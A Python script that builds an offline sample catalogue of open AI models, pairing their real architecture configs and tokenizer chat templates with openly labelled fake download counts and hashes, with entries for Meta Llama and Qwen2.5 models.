#!/usr/bin/env python3
# ruff: noqa: E501  (compact data tables)
"""Build sample_data/catalog.jsonl: an offline snapshot-like catalogue of real open models.

Every line has the JSON shape returned by ``GET /api/models/{id}?expand[]=...&blobs=true``
(the camelCase keys parsed by ``huggingface_hub.ModelInfo``) plus one extra key, ``config_json``,
holding the architecture fields of the model's real ``config.json``.

Facts (ids, authors, licences, gating, tasks, parameter counts, architectures, context lengths)
describe real public repos as of late 2025. Download/like/trending counts, SHAs, blob ids, LFS
hashes and exact times of day are deterministic *fakes* (plausible, not live). File sizes are
derived from the parameter counts (safetensors: params x dtype width; GGUF: params x bits-per-weight).

Re-run with:  .venv/bin/python sample_data/build_catalog.py
The script is deterministic (no wall clock, seeded RNG derived from repo ids).
"""

from __future__ import annotations

import hashlib
import json
import math
import random
import sys
from collections import Counter
from pathlib import Path

HERE = Path(__file__).resolve().parent
OUT = HERE / "catalog.jsonl"
CARDS = HERE / "cards"


# --------------------------------------------------------------------------------------------
# deterministic helpers
# --------------------------------------------------------------------------------------------
def h(*parts: object, algo: str = "sha1") -> str:
    return hashlib.new(algo, "\x1f".join(map(str, parts)).encode()).hexdigest()


def rng_for(*parts: object) -> random.Random:
    return random.Random(int(h("seed-v1", *parts)[:16], 16))


def ts(day: str, *salt: object) -> str:
    """'2024-09-16' -> '2024-09-16T11:55:40.000Z' with a deterministic time of day."""
    r = rng_for("time", day, *salt)
    return f"{day}T{r.randint(6, 22):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d}.000Z"


def lfs_entry(repo: str, name: str, size: int) -> dict:
    return {
        "rfilename": name,
        "blobId": h("blob", repo, name),
        "size": size,
        "lfs": {"size": size, "sha256": h("lfs", repo, name, size, algo="sha256"),
                "pointerSize": 125 + len(str(size))},
    }


def git_entry(repo: str, name: str, size: int) -> dict:
    return {"rfilename": name, "blobId": h("blob", repo, name), "size": size}


LFS_EXT = (".safetensors", ".gguf", ".bin", ".onnx", ".h5", ".ot", ".msgpack", ".pt", ".pth", ".model",
           ".imatrix", ".onnx_data", ".xml", ".npz", ".tflite")


def entry(repo: str, name: str, size: int) -> dict:
    if name.endswith(LFS_EXT) or size > 10_000_000:
        return lfs_entry(repo, name, size)
    return git_entry(repo, name, size)


# --------------------------------------------------------------------------------------------
# tokenizer families: files shipped with the weights + special tokens + a SHORT chat template
# --------------------------------------------------------------------------------------------
T_LLAMA3 = ("{{- bos_token }}{%- for m in messages %}{{- '<|start_header_id|>' + m['role'] + '<|end_header_id|>\\n\\n'"
            " + m['content'] | trim + '<|eot_id|>' }}{%- endfor %}{%- if add_generation_prompt %}"
            "{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}")
T_CHATML = ("{%- for m in messages %}{{- '<|im_start|>' + m['role'] + '\\n' + m['content'] + '<|im_end|>\\n' }}"
            "{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}")
T_QWEN3 = ("{%- for m in messages %}{{- '<|im_start|>' + m.role + '\\n' + m.content + '<|im_end|>\\n' }}{%- endfor %}"
           "{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- if enable_thinking is defined and "
           "enable_thinking is false %}{{- '<think>\\n\\n</think>\\n\\n' }}{%- endif %}{%- endif %}")
T_MISTRAL = ("{{- bos_token }}{%- for m in messages %}{%- if m['role'] == 'user' %}{{- '[INST] ' + m['content'] + "
             "' [/INST]' }}{%- else %}{{- ' ' + m['content'] + eos_token }}{%- endif %}{%- endfor %}")
T_TEKKEN = ("{{- bos_token }}{%- for m in messages %}{%- if m['role'] == 'user' %}{{- '[INST]' + m['content'] + "
            "'[/INST]' }}{%- else %}{{- m['content'] + eos_token }}{%- endif %}{%- endfor %}")
T_GEMMA = ("{{ bos_token }}{%- for m in messages %}{%- set role = 'model' if m['role'] == 'assistant' else m['role'] %}"
           "{{ '<start_of_turn>' + role + '\\n' + m['content'] | trim + '<end_of_turn>\\n' }}{%- endfor %}"
           "{%- if add_generation_prompt %}{{ '<start_of_turn>model\\n' }}{%- endif %}")
T_PHI3 = ("{%- for m in messages %}{{- '<|' + m['role'] + '|>\\n' + m['content'] + '<|end|>\\n' }}{%- endfor %}"
          "{%- if add_generation_prompt %}{{- '<|assistant|>\\n' }}{%- endif %}")
T_PHI4 = ("{%- for m in messages %}{{- '<|im_start|>' + m['role'] + '<|im_sep|>' + m['content'] + '<|im_end|>' }}"
          "{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant<|im_sep|>' }}{%- endif %}")
T_DSR1 = ("{{- bos_token }}{%- for m in messages %}{%- if m['role'] == 'user' %}{{- '<｜User｜>' + m['content'] }}"
          "{%- elif m['role'] == 'assistant' %}{{- '<｜Assistant｜>' + m['content'] + '<｜end▁of▁sentence｜>' }}"
          "{%- endif %}{%- endfor %}{%- if add_generation_prompt %}{{- '<｜Assistant｜><think>\\n' }}{%- endif %}")
T_ZEPHYR = ("{%- for m in messages %}{{- '<|' + m['role'] + '|>\\n' + m['content'] + eos_token + '\\n' }}{%- endfor %}"
            "{%- if add_generation_prompt %}{{- '<|assistant|>\\n' }}{%- endif %}")
T_LLAMA2 = ("{{- bos_token }}{%- for m in messages %}{%- if m['role'] == 'user' %}{{- '[INST] ' + m['content'] | trim"
            " + ' [/INST]' }}{%- else %}{{- ' ' + m['content'] | trim + ' ' + eos_token }}{%- endif %}{%- endfor %}")
T_HARMONY = ("{%- for m in messages %}{{- '<|start|>' + m['role'] + '<|message|>' + m['content'] + '<|end|>' }}"
             "{%- endfor %}{%- if add_generation_prompt %}{{- '<|start|>assistant' }}{%- endif %}")
T_KIMI = ("{%- for m in messages %}{{- '<|im_' + m['role'] + '|>' + m['role'] + '<|im_middle|>' + m['content'] + "
          "'<|im_end|>' }}{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_assistant|>assistant<|im_middle|>' }}"
          "{%- endif %}")
T_GLM4 = ("[gMASK]<sop>{%- for m in messages %}{{- '<|' + m['role'] + '|>\\n' + m['content'] }}{%- endfor %}"
          "{%- if add_generation_prompt %}{{- '<|assistant|>\\n' }}{%- endif %}")

# name -> (bos, eos, chat_template, [(file, size), ...])
TOK: dict[str, tuple] = {
    "llama3": ("<|begin_of_text|>", "<|eot_id|>", T_LLAMA3,
               [("tokenizer.json", 9085657), ("tokenizer_config.json", 55351), ("special_tokens_map.json", 296)]),
    "llama3base": ("<|begin_of_text|>", "<|end_of_text|>", None,
                   [("tokenizer.json", 9085657), ("tokenizer_config.json", 50500), ("special_tokens_map.json", 73)]),
    "hermes3": ("<|begin_of_text|>", "<|im_end|>", T_CHATML,
                [("tokenizer.json", 9085698), ("tokenizer_config.json", 55541), ("special_tokens_map.json", 325)]),
    "llama2": ("<s>", "</s>", T_LLAMA2,
               [("tokenizer.model", 499723), ("tokenizer.json", 1842767), ("tokenizer_config.json", 1618),
                ("special_tokens_map.json", 414)]),
    "zephyr": ("<s>", "</s>", T_ZEPHYR,
               [("tokenizer.model", 499723), ("tokenizer.json", 1842767), ("tokenizer_config.json", 1289),
                ("special_tokens_map.json", 551)]),
    "qwen2": ("<|endoftext|>", "<|im_end|>", T_CHATML,
              [("vocab.json", 2776833), ("merges.txt", 1671853), ("tokenizer.json", 7031645),
               ("tokenizer_config.json", 7305)]),
    "qwen3": ("<|endoftext|>", "<|im_end|>", T_QWEN3,
              [("vocab.json", 2776833), ("merges.txt", 1671853), ("tokenizer.json", 11422654),
               ("tokenizer_config.json", 9732)]),
    "mistral": ("<s>", "</s>", T_MISTRAL,
                [("tokenizer.model", 493443), ("tokenizer.json", 1795188), ("tokenizer_config.json", 2103),
                 ("special_tokens_map.json", 414)]),
    "mistral3": ("<s>", "</s>", T_MISTRAL,
                 [("tokenizer.model", 587404), ("tokenizer.model.v3", 587404), ("tokenizer.json", 1961548),
                  ("tokenizer_config.json", 141020), ("special_tokens_map.json", 414)]),
    "tekken": ("<s>", "</s>", T_TEKKEN,
               [("tekken.json", 14801223), ("tokenizer.json", 9264992), ("tokenizer_config.json", 181174),
                ("special_tokens_map.json", 414)]),
    "gemma": ("<bos>", "<eos>", T_GEMMA,
              [("tokenizer.model", 4241003), ("tokenizer.json", 17525357), ("tokenizer_config.json", 46405),
               ("special_tokens_map.json", 636)]),
    "gemma3": ("<bos>", "<eos>", T_GEMMA,
               [("tokenizer.model", 4689074), ("tokenizer.json", 33384568), ("tokenizer_config.json", 1156999),
                ("special_tokens_map.json", 662), ("added_tokens.json", 35)]),
    "phi3": ("<s>", "<|end|>", T_PHI3,
             [("tokenizer.model", 499723), ("tokenizer.json", 1844409), ("tokenizer_config.json", 3439),
              ("special_tokens_map.json", 665), ("added_tokens.json", 293)]),
    "phi2": ("<|endoftext|>", "<|endoftext|>", None,
             [("vocab.json", 798156), ("merges.txt", 456318), ("tokenizer.json", 2114924),
              ("tokenizer_config.json", 7343), ("added_tokens.json", 1080)]),
    "phi4": ("<|endoftext|>", "<|im_end|>", T_PHI4,
             [("vocab.json", 1612637), ("merges.txt", 917692), ("tokenizer.json", 4250765),
              ("tokenizer_config.json", 17720), ("special_tokens_map.json", 95), ("added_tokens.json", 2507)]),
    "phi4mini": ("<|endoftext|>", "<|end|>", T_PHI3,
                 [("vocab.json", 3910310), ("merges.txt", 2418412), ("tokenizer.json", 15524095),
                  ("tokenizer_config.json", 2961), ("added_tokens.json", 249)]),
    "deepseek": ("<｜begin▁of▁sentence｜>", "<｜end▁of▁sentence｜>", T_DSR1,
                 [("tokenizer.json", 7847602), ("tokenizer_config.json", 3061)]),
    "dsv2": ("<｜begin▁of▁sentence｜>", "<｜end▁of▁sentence｜>", T_DSR1,
             [("tokenizer.json", 4613458), ("tokenizer_config.json", 1871)]),
    "dscoder": ("<｜begin▁of▁sentence｜>", "<|EOT|>", T_DSR1,
                [("tokenizer.json", 1369873), ("tokenizer_config.json", 1867)]),
    "dsqwen": ("<｜begin▁of▁sentence｜>", "<｜end▁of▁sentence｜>", T_DSR1,
               [("tokenizer.json", 7031660), ("tokenizer_config.json", 3071)]),
    "dsllama": ("<｜begin▁of▁sentence｜>", "<｜end▁of▁sentence｜>", T_DSR1,
                [("tokenizer.json", 9085658), ("tokenizer_config.json", 55351)]),
    "chatglm": ("[gMASK]", "<|endoftext|>", T_GLM4,
                [("tokenizer.model", 1018370), ("tokenization_chatglm.py", 11279), ("tokenizer_config.json", 1223)]),
    "glm4": ("[gMASK]", "<|endoftext|>", T_GLM4,
             [("tokenizer.model", 2623634), ("tokenization_chatglm.py", 16290), ("tokenizer_config.json", 6137)]),
    "glm4hf": ("[gMASK]", "<|endoftext|>", T_GLM4,
               [("tokenizer.json", 19966496), ("tokenizer_config.json", 6341), ("special_tokens_map.json", 612)]),
    "kimi": ("[BOS]", "<|im_end|>", T_KIMI,
             [("tiktoken.model", 2795286), ("tokenization_kimi.py", 11450), ("tokenizer_config.json", 4163)]),
    "smollm": ("<|im_start|>", "<|im_end|>", T_CHATML,
               [("vocab.json", 800662), ("merges.txt", 466391), ("tokenizer.json", 2104556),
                ("tokenizer_config.json", 3764), ("special_tokens_map.json", 655)]),
    "smollm3": ("<|begin_of_text|>", "<|im_end|>", T_CHATML,
                [("tokenizer.json", 17209003), ("tokenizer_config.json", 50420), ("special_tokens_map.json", 289)]),
    "gptoss": ("<|startoftext|>", "<|return|>", T_HARMONY,
               [("tokenizer.json", 27868174), ("tokenizer_config.json", 4200), ("special_tokens_map.json", 98),
                ("chat_template.jinja", 16738)]),
    "cohere": ("<BOS_TOKEN>", "<|END_OF_TURN_TOKEN|>", None,
               [("tokenizer.json", 12777433), ("tokenizer_config.json", 20163), ("special_tokens_map.json", 439)]),
    "falcon": ("<|endoftext|>", "<|endoftext|>", None,
               [("tokenizer.json", 2734130), ("tokenizer_config.json", 287), ("special_tokens_map.json", 281)]),
    "falcon3": ("<|begin_of_text|>", "<|endoftext|>", T_ZEPHYR,
                [("tokenizer.json", 7262637), ("tokenizer_config.json", 361906), ("special_tokens_map.json", 548)]),
    "olmo": ("<|endoftext|>", "<|endoftext|>", T_ZEPHYR,
             [("tokenizer.json", 7030781), ("tokenizer_config.json", 26047), ("special_tokens_map.json", 583)]),
    "granite": ("<|end_of_text|>", "<|end_of_text|>", None,
                [("vocab.json", 777110), ("merges.txt", 442239), ("tokenizer.json", 3479991),
                 ("tokenizer_config.json", 8159), ("special_tokens_map.json", 1012), ("added_tokens.json", 87)]),
    "yi": ("<|startoftext|>", "<|im_end|>", T_CHATML,
           [("tokenizer.model", 1033105), ("tokenizer.json", 3538893), ("tokenizer_config.json", 1580),
            ("special_tokens_map.json", 581)]),
    "internlm": ("<s>", "<|im_end|>", T_CHATML,
                 [("tokenizer.model", 1477754), ("tokenization_internlm2.py", 8810),
                  ("tokenization_internlm2_fast.py", 7805), ("tokenizer_config.json", 2513)]),
    "internlm3": ("<s>", "<|im_end|>", T_CHATML,
                  [("tokenizer.model", 2475075), ("tokenization_internlm3.py", 12030), ("tokenizer_config.json", 7916)]),
    "starcoder": ("<|endoftext|>", "<|endoftext|>", None,
                  [("vocab.json", 777110), ("merges.txt", 442239), ("tokenizer.json", 2117339),
                   ("tokenizer_config.json", 7051), ("special_tokens_map.json", 958)]),
    "bert": (None, None, None,
             [("vocab.txt", 231508), ("tokenizer.json", 711396), ("tokenizer_config.json", 366),
              ("special_tokens_map.json", 125)]),
    "mpnet": (None, None, None,
              [("vocab.txt", 231536), ("tokenizer.json", 466021), ("tokenizer_config.json", 363),
               ("special_tokens_map.json", 239)]),
    "xlmr": (None, None, None,
             [("sentencepiece.bpe.model", 5069051), ("tokenizer.json", 17082734), ("tokenizer_config.json", 1173),
              ("special_tokens_map.json", 964)]),
}


# --------------------------------------------------------------------------------------------
# architecture configs (real config.json fields)
# --------------------------------------------------------------------------------------------
def C(mt, arch, L, H, nh, kv, inter, vocab, ctx, dtype="bfloat16", **kw):
    d = {"model_type": mt, "architectures": [arch], "num_hidden_layers": L, "hidden_size": H,
         "num_attention_heads": nh, "num_key_value_heads": kv, "intermediate_size": inter,
         "vocab_size": vocab, "max_position_embeddings": ctx}
    d.update(kw)
    d["torch_dtype"] = dtype
    return d


R_L31 = {"factor": 8.0, "low_freq_factor": 1.0, "high_freq_factor": 4.0,
         "original_max_position_embeddings": 8192, "rope_type": "llama3"}
R_L32 = dict(R_L31, factor=32.0)


def llama(L, H, nh, kv, inter, vocab=128256, ctx=131072, rope=R_L31, **kw):
    return C("llama", "LlamaForCausalLM", L, H, nh, kv, inter, vocab, ctx, rope_scaling=rope, **kw)


def qwen2(L, H, nh, kv, inter, vocab=152064, ctx=32768, tie=False, sw=131072, arch="Qwen2ForCausalLM",
          rope_theta=1000000.0, **kw):
    return C("qwen2", arch, L, H, nh, kv, inter, vocab, ctx, rope_theta=rope_theta, sliding_window=sw,
             use_sliding_window=False, max_window_layers=L if L < 70 else 70, tie_word_embeddings=tie, **kw)


def qwen3(L, H, nh, kv, inter, ctx=40960, tie=False, vocab=151936, rope_theta=1000000.0, **kw):
    return C("qwen3", "Qwen3ForCausalLM", L, H, nh, kv, inter, vocab, ctx, head_dim=128, rope_theta=rope_theta,
             sliding_window=None, use_sliding_window=False, tie_word_embeddings=tie, **kw)


def qwen3moe(L, H, nh, kv, moe_inter, experts, ctx=40960, rope_theta=1000000.0, inter=6144):
    return C("qwen3_moe", "Qwen3MoeForCausalLM", L, H, nh, kv, inter, 151936, ctx, head_dim=128,
             moe_intermediate_size=moe_inter, num_experts=experts, num_experts_per_tok=8, norm_topk_prob=True,
             decoder_sparse_step=1, mlp_only_layers=[], rope_theta=rope_theta, sliding_window=None,
             use_sliding_window=False)


def gemma3_layer_types(n, pattern=6):
    return ["full_attention" if (i + 1) % pattern == 0 else "sliding_attention" for i in range(n)]


def gemma3_text(L, H, nh, kv, inter, hd=256, ctx=131072, sw=1024, vocab=262208, rope=None, qpas=256,
                arch="Gemma3ForCausalLM", with_layer_types=False):
    d = C("gemma3_text", arch, L, H, nh, kv, inter, vocab, ctx, head_dim=hd, sliding_window=sw,
          sliding_window_pattern=6, rope_theta=1000000.0, rope_local_base_freq=10000.0, rope_scaling=rope,
          query_pre_attn_scalar=qpas, final_logit_softcapping=None, attn_logit_softcapping=None)
    if with_layer_types:
        d["layer_types"] = gemma3_layer_types(L)
    return d


def gemma3_vl(L, H, nh, kv, inter, hd=256, qpas=256):
    t = gemma3_text(L, H, nh, kv, inter, hd=hd, qpas=qpas, rope={"factor": 8.0, "rope_type": "linear"})
    del t["architectures"], t["torch_dtype"]
    return {"model_type": "gemma3", "architectures": ["Gemma3ForConditionalGeneration"], "text_config": t,
            "vision_config": {"model_type": "siglip_vision_model", "hidden_size": 1152, "num_hidden_layers": 27,
                              "image_size": 896, "patch_size": 14},
            "mm_tokens_per_image": 256, "torch_dtype": "bfloat16"}


def gemma2(L, H, nh, kv, inter, hd, qpas, dtype):
    return C("gemma2", "Gemma2ForCausalLM", L, H, nh, kv, inter, 256000, 8192, dtype=dtype, head_dim=hd,
             sliding_window=4096, query_pre_attn_scalar=qpas, attn_logit_softcapping=50.0,
             final_logit_softcapping=30.0, cache_implementation="hybrid")


def mistral(L=32, H=4096, nh=32, kv=8, inter=14336, vocab=32768, ctx=32768, sw=None, theta=1000000.0, **kw):
    return C("mistral", "MistralForCausalLM", L, H, nh, kv, inter, vocab, ctx, sliding_window=sw,
             rope_theta=theta, **kw)


def nested(mt, arch, text: dict, dtype="bfloat16", **kw):
    t = {k: v for k, v in text.items() if k not in ("architectures", "torch_dtype")}
    d = {"model_type": mt, "architectures": [arch], "text_config": t}
    d.update(kw)
    d["torch_dtype"] = dtype
    return d


def mla(mt, arch, L, H, nh, inter, moe_inter, n_routed, n_shared, topk, first_dense, vocab, ctx, q_lora,
        rope, **kw):
    return C(mt, arch, L, H, nh, nh, inter, vocab, ctx, q_lora_rank=q_lora, kv_lora_rank=512,
             qk_rope_head_dim=64, qk_nope_head_dim=128, v_head_dim=128, moe_intermediate_size=moe_inter,
             n_routed_experts=n_routed, n_shared_experts=n_shared, num_experts_per_tok=topk,
             first_k_dense_replace=first_dense, rope_scaling=rope, **kw)


YARN_DS = {"type": "yarn", "factor": 40, "original_max_position_embeddings": 4096, "beta_fast": 32,
           "beta_slow": 1, "mscale": 1.0, "mscale_all_dim": 1.0}
YARN_DSV2 = dict(YARN_DS, mscale=0.707, mscale_all_dim=0.707)
FP8_QC = {"activation_scheme": "dynamic", "fmt": "e4m3", "quant_method": "fp8", "weight_block_size": [128, 128]}


def dsv3(**kw):
    base = dict(L=61, H=7168, nh=128, inter=18432, moe_inter=2048, n_routed=256, n_shared=1, topk=8,
                first_dense=3, vocab=129280, ctx=163840, q_lora=1536, rope=YARN_DS)
    base.update(kw)
    return mla("deepseek_v3", "DeepseekV3ForCausalLM", n_group=8, topk_group=4, routed_scaling_factor=2.5,
               num_nextn_predict_layers=1, quantization_config=FP8_QC, **base)


def kimi_k2(ctx=131072, factor=32.0):
    return mla("kimi_k2", "DeepseekV3ForCausalLM", 61, 7168, 64, 18432, 2048, 384, 1, 8, 1, 163840, ctx, 1536,
               {"type": "yarn", "factor": factor, "original_max_position_embeddings": 4096, "beta_fast": 1.0,
                "beta_slow": 1.0, "mscale": 1.0, "mscale_all_dim": 1.0},
               n_group=1, topk_group=1, routed_scaling_factor=2.827, rope_theta=50000.0,
               quantization_config=FP8_QC)


def dsv2lite():
    return mla("deepseek_v2", "DeepseekV2ForCausalLM", 27, 2048, 16, 10944, 1408, 64, 2, 6, 1, 102400, 163840,
               None, YARN_DSV2, topk_method="greedy")


def phi3(L=32, H=3072, nh=32, kv=32, inter=8192, vocab=32064, ctx=4096, **kw):
    return C("phi3", "Phi3ForCausalLM", L, H, nh, kv, inter, vocab, ctx, **kw)


def gptoss(L, experts):
    return C("gpt_oss", "GptOssForCausalLM", L, 2880, 64, 8, 2880, 201088, 131072, head_dim=64,
             num_local_experts=experts, num_experts_per_tok=4, sliding_window=128,
             layer_types=["sliding_attention" if i % 2 == 0 else "full_attention" for i in range(L)],
             rope_scaling={"beta_fast": 32.0, "beta_slow": 1.0, "factor": 32.0,
                           "original_max_position_embeddings": 4096, "rope_type": "yarn", "truncate": False},
             quantization_config={"quant_method": "mxfp4",
                                  "modules_to_not_convert": ["model.layers.*.self_attn", "model.layers.*.mlp.router",
                                                             "model.embed_tokens", "lm_head"]})


def bert(L, H, nh, inter, vocab=30522, ctx=512, mt="bert", arch="BertModel", dtype="float32", **kw):
    return C(mt, arch, L, H, nh, nh, inter, vocab, ctx, dtype=dtype, **kw)


def glm4moe(L, H, inter, moe_inter, experts, first_dense):
    return C("glm4_moe", "Glm4MoeForCausalLM", L, H, 96, 8, inter, 151552, 131072, head_dim=128,
             moe_intermediate_size=moe_inter, n_routed_experts=experts, n_shared_experts=1, num_experts_per_tok=8,
             first_k_dense_replace=first_dense, n_group=1, topk_group=1, partial_rotary_factor=0.5,
             num_nextn_predict_layers=1, rope_theta=1000000)


def chatglm(L, H, nh, groups, ffn, vocab, seq):
    # ChatGLM keeps its own key names (num_layers, multi_query_group_num, kv_channels, seq_length ...)
    return {"model_type": "chatglm", "architectures": ["ChatGLMModel"], "num_layers": L, "hidden_size": H,
            "num_attention_heads": nh, "multi_query_attention": True, "multi_query_group_num": groups,
            "kv_channels": 128, "ffn_hidden_size": ffn, "padded_vocab_size": vocab, "seq_length": seq,
            "torch_dtype": "bfloat16"}


# --------------------------------------------------------------------------------------------
# model table
# --------------------------------------------------------------------------------------------
SPECS: list[dict] = []
K = 1_000
M = 1_000_000


def S(id, cfg, params, c, m, dl, lk, **kw):
    """A transformers safetensors repo (text or vision-language)."""
    SPECS.append(dict(id=id, kind=kw.pop("kind", "st"), cfg=cfg, params=params, c=c, m=m, dl=dl, lk=lk, **kw))


def E(id, cfg, params, c, m, dl, lk, **kw):
    """An embedding / sentence-transformers repo."""
    kw.setdefault("pipe", "feature-extraction")
    kw.setdefault("lib", "sentence-transformers")
    kw.setdefault("dtype", "F32")
    S(id, cfg, params, c, m, dl, lk, kind="emb", **kw)


def G(id, base, style, stem, quants, c, m, dl, lk, **kw):
    """A GGUF repo; params/arch/context/tokenizer/licence default to the base entry."""
    SPECS.append(dict(id=id, kind="gguf", base=base, style=style, stem=stem, quants=quants, c=c, m=m, dl=dl,
                      lk=lk, **kw))


EMB_L31 = 128256 * 4096 * 2
EMB_Q7 = 152064 * 3584 * 2
EMB_Q32 = 152064 * 5120 * 2
EMB_L32_3B = 128256 * 3072


def qparams(total, embed, kind):
    lin = total - embed
    if kind in ("awq", "gptq"):
        d = {"I32": lin // 8 + lin // 1024, "F16": embed + lin // 128}
    elif kind == "fp8":
        d = {"BF16": embed + 266_240, "F8_E4M3": lin - 266_240}
    elif kind == "mlx4":
        d = {"U32": (lin + embed) // 8, "BF16": (lin + embed) // 32}
    else:
        raise ValueError(kind)
    return d


L31 = ["facebook", "meta", "pytorch", "llama", "llama-3"]
L31_LANG = ["en", "de", "fr", "it", "pt", "hi", "es", "th"]
META = dict(gated="manual", tok="llama3", tags=L31, lang=L31_LANG, arxiv=["2204.05149"])

# ---- Meta Llama ------------------------------------------------------------------------------
S("meta-llama/Llama-3.1-8B-Instruct", llama(32, 4096, 32, 8, 14336), 8030261248, "2024-07-18", "2024-09-25",
  6_100 * K, 4_650, lic="llama3.1", base="meta-llama/Llama-3.1-8B", original=1, **META)
S("meta-llama/Llama-3.1-8B", llama(32, 4096, 32, 8, 14336), 8030261248, "2024-07-14", "2024-10-16",
  1_450 * K, 1_780, lic="llama3.1", original=1, conv=False, **dict(META, tok="llama3base"))
S("meta-llama/Llama-3.1-70B-Instruct", llama(80, 8192, 64, 8, 28672), 70553706496, "2024-07-16", "2024-12-15",
  610 * K, 860, lic="llama3.1", base="meta-llama/Llama-3.1-70B", original=8, **META)
S("meta-llama/Llama-3.1-405B-Instruct", llama(126, 16384, 128, 8, 53248), 405853388800, "2024-07-16",
  "2024-09-25", 24 * K, 580, lic="llama3.1", base="meta-llama/Llama-3.1-405B", shard=4.25, **META)
S("meta-llama/Llama-3.2-1B-Instruct", llama(16, 2048, 32, 8, 8192, rope=R_L32, head_dim=64, tie_word_embeddings=True),
  1235814400, "2024-09-18", "2024-10-24", 3_400 * K, 1_120, lic="llama3.2", base="meta-llama/Llama-3.2-1B",
  original=1, **META)
S("meta-llama/Llama-3.2-1B", llama(16, 2048, 32, 8, 8192, rope=R_L32, head_dim=64, tie_word_embeddings=True),
  1235814400, "2024-09-18", "2024-10-24", 2_050 * K, 1_900, lic="llama3.2", original=1, conv=False,
  **dict(META, tok="llama3base"))
S("meta-llama/Llama-3.2-3B-Instruct", llama(28, 3072, 24, 8, 8192, rope=R_L32, head_dim=128, tie_word_embeddings=True),
  3212749824, "2024-09-18", "2024-10-24", 1_900 * K, 1_590, lic="llama3.2", base="meta-llama/Llama-3.2-3B",
  original=1, **META)
S("meta-llama/Llama-3.3-70B-Instruct", llama(80, 8192, 64, 8, 28672), 70553706496, "2024-11-26", "2024-12-21",
  820 * K, 2_450, lic="llama3.3", base="meta-llama/Llama-3.1-70B", original=8, **META)
S("meta-llama/Llama-Guard-3-8B", llama(32, 4096, 32, 8, 14336), 8030261248, "2024-07-22", "2024-09-27",
  150 * K, 230, lic="llama3.1", base="meta-llama/Llama-3.1-8B", **META)
S("meta-llama/Llama-Guard-3-1B", llama(16, 2048, 32, 8, 8192, rope=R_L32, head_dim=64, tie_word_embeddings=False),
  1498482688, "2024-09-18", "2024-10-24", 95 * K, 110, lic="llama3.2", base="meta-llama/Llama-3.2-1B", **META)
S("meta-llama/Meta-Llama-3-8B-Instruct", llama(32, 4096, 32, 8, 14336, ctx=8192, rope=None, rope_theta=500000.0),
  8030261248, "2024-04-17", "2024-09-27", 1_300 * K, 4_200, lic="llama3", base="meta-llama/Meta-Llama-3-8B",
  original=1, **dict(META, lang=["en"], arxiv=[]))
S("meta-llama/Llama-2-7b-chat-hf",
  C("llama", "LlamaForCausalLM", 32, 4096, 32, 32, 11008, 32000, 4096, dtype="float16"), 6738415616,
  "2023-07-13", "2024-04-17", 780 * K, 4_500, lic="llama2", base="meta-llama/Llama-2-7b-hf", dtype="F16",
  bins=True, shard=10, arxiv=["2307.09288"], gated="manual", tok="llama2", lang=["en"],
  tags=["facebook", "meta", "pytorch", "llama", "llama-2"])
S("meta-llama/CodeLlama-7b-Instruct-hf",
  C("llama", "LlamaForCausalLM", 32, 4096, 32, 32, 11008, 32016, 16384, rope_theta=1000000.0), 6738546688,
  "2024-03-13", "2024-04-12", 38 * K, 60, lic="llama2", gated="manual", tok="llama2", lang=["code"],
  shard=10, tags=["facebook", "meta", "pytorch", "llama", "llama-2"], arxiv=["2308.12950"])
S("codellama/CodeLlama-34b-Instruct-hf",
  C("llama", "LlamaForCausalLM", 48, 8192, 64, 8, 22016, 32000, 16384, rope_theta=1000000.0), 33743970304,
  "2023-08-24", "2024-04-12", 21 * K, 290, lic="llama2", tok="llama2", lang=["code"], shard=10, bins=True,
  tags=["llama-2"], arxiv=["2308.12950"])
_mllama11 = nested("mllama", "MllamaForConditionalGeneration",
                   C("mllama_text_model", "", 40, 4096, 32, 8, 14336, 128256, 131072, rope_scaling=R_L31,
                     cross_attention_layers=[3, 8, 13, 18, 23, 28, 33, 38]),
                   vision_config={"model_type": "mllama_vision_model", "image_size": 560, "num_hidden_layers": 32})
_mllama90 = nested("mllama", "MllamaForConditionalGeneration",
                   C("mllama_text_model", "", 100, 8192, 64, 8, 28672, 128256, 131072, rope_scaling=R_L31,
                     cross_attention_layers=list(range(3, 100, 5))),
                   vision_config={"model_type": "mllama_vision_model", "image_size": 560, "num_hidden_layers": 32})
S("meta-llama/Llama-3.2-11B-Vision-Instruct", _mllama11, 10670220835, "2024-09-18", "2024-12-04", 1_250 * K,
  1_480, lic="llama3.2", base="meta-llama/Llama-3.2-11B-Vision", pipe="image-text-to-text", vl=True,
  original=1, **dict(META, lang=["en", "de", "fr", "it", "pt", "hi", "es", "th"]))
S("meta-llama/Llama-3.2-90B-Vision-Instruct", _mllama90, 88648175088, "2024-09-19", "2024-12-04", 23 * K, 330,
  lic="llama3.2", base="meta-llama/Llama-3.2-90B-Vision", pipe="image-text-to-text", vl=True, **META)

# ---- Qwen ------------------------------------------------------------------------------------
QW = dict(tok="qwen2", lang=["en"], tags=["chat"], arxiv=["2309.00071", "2407.10671"])
QLIC = "https://huggingface.co/Qwen/{}/blob/main/LICENSE"
for size, cfg, p, dl, lk, lic in [
    ("0.5B", qwen2(24, 896, 14, 2, 4864, vocab=151936, tie=True, sw=32768), 494032768, 2_600 * K, 310, "apache-2.0"),
    ("1.5B", qwen2(28, 1536, 12, 2, 8960, vocab=151936, tie=True, sw=32768), 1543714304, 3_900 * K, 480, "apache-2.0"),
    ("3B", qwen2(36, 2048, 16, 2, 11008, vocab=151936, tie=True, sw=32768), 3085938688, 2_300 * K, 250, "qwen-research"),
    ("7B", qwen2(28, 3584, 28, 4, 18944), 7615616512, 8_400 * K, 780, "apache-2.0"),
    ("14B", qwen2(48, 5120, 40, 8, 13824), 14770033664, 1_100 * K, 260, "apache-2.0"),
    ("32B", qwen2(64, 5120, 40, 8, 27648), 32763876352, 1_050 * K, 300, "apache-2.0"),
    ("72B", qwen2(80, 8192, 64, 8, 29568), 72706203648, 420 * K, 870, "qwen"),
]:
    rid = f"Qwen2.5-{size}-Instruct"
    extra = dict(lic=lic) if lic == "apache-2.0" else dict(lic="other", lic_name=lic)
    S(f"Qwen/{rid}", cfg, p, "2024-09-16", "2025-01-12", dl, lk, base=f"Qwen/Qwen2.5-{size}",
      lic_link=QLIC.format(rid), **extra, **QW)
